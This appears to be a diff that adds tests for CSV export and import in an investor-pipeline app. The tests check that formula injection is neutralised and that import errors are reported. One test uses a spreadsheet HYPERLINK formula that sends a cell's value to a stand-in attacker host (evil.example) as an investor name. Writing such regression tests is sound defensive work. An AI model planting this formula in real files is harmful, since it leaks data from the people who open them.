@@ -258,6 +258,54 @@ describe('CSV', () => {
   });
 });
 
+describe('CSV safety (issue 32)', () => {
+  it('exports an investor named as a formula as text, and keeps fields a blank cell would have cleared', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const added = await founder.client.post(`${base}/entries`, {
+      name: evil,
+      stage: 'contacted',
+      expected_amount: 75_000,
+    });
+    expect(added.status).toBe(201);
+    const dated = await founder.client.patch(`${base}/entries/${added.body.id}`, {
+      next_follow_up: '2026-12-24',
+    });
+    expect(dated.status).toBe(200);
+    const res = await fetch(`${app.url}${base}/export.csv`, {
+      headers: { cookie: founder.client.cookieHeader() },
+    });
+    const line = (await res.text()).split('\n').find((l) => l.includes('HYPERLINK'))!;
+    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
+    // Re-importing a file of names and stages alone (the follow-up and amount cells blank) clears nothing.
+    const imported = await founder.client.post(`${base}/import`, {
+      csv: `name,stage,next_follow_up,expected_amount\n"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Meeting,,\n`,
+    });
+    expect(imported.body).toEqual({ added: 0, updated: 1, errors: [] });
+    const entry = (await founder.client.get(base)).body.entries.find(
+      (e: { name: string }) => e.name === evil,
+    );
+    expect(entry).toMatchObject({ stage: 'meeting', next_follow_up: '2026-12-24', expected_amount: 75_000 });
+  });
+
+  it('reports every error of a file at once, unknown investors included', async () => {
+    const res = await founder.client.post(`${base}/import`, {
+      csv: 'name,investor_id,stage,expected_amount\nA,,Lunch,x\nB,no-such-one,,\nC,,Passed,\n',
+    });
+    expect(res.body.errors).toEqual([
+      { line: 2, message: 'stage "Lunch" is not a pipeline stage' },
+      { line: 2, message: 'expected_amount must be whole dollars' },
+      { line: 4, message: 'pass_reason is required for a pass' },
+    ]);
+    const unknown = await founder.client.post(`${base}/import`, {
+      csv: 'name,investor_id\nB,no-such-one\nC,nor-this-one\n',
+    });
+    expect(unknown.body.errors).toEqual([
+      { line: 2, message: 'investor_id no-such-one is not in the investor database' },
+      { line: 3, message: 'investor_id nor-this-one is not in the investor database' },
+    ]);
+  });
+});
+
 describe('privacy', () => {
   it('is the founder alone: other founders, advisors, investors and visitors are refused everywhere', async () => {
     const { entries } = (await founder.client.get(base)).body;
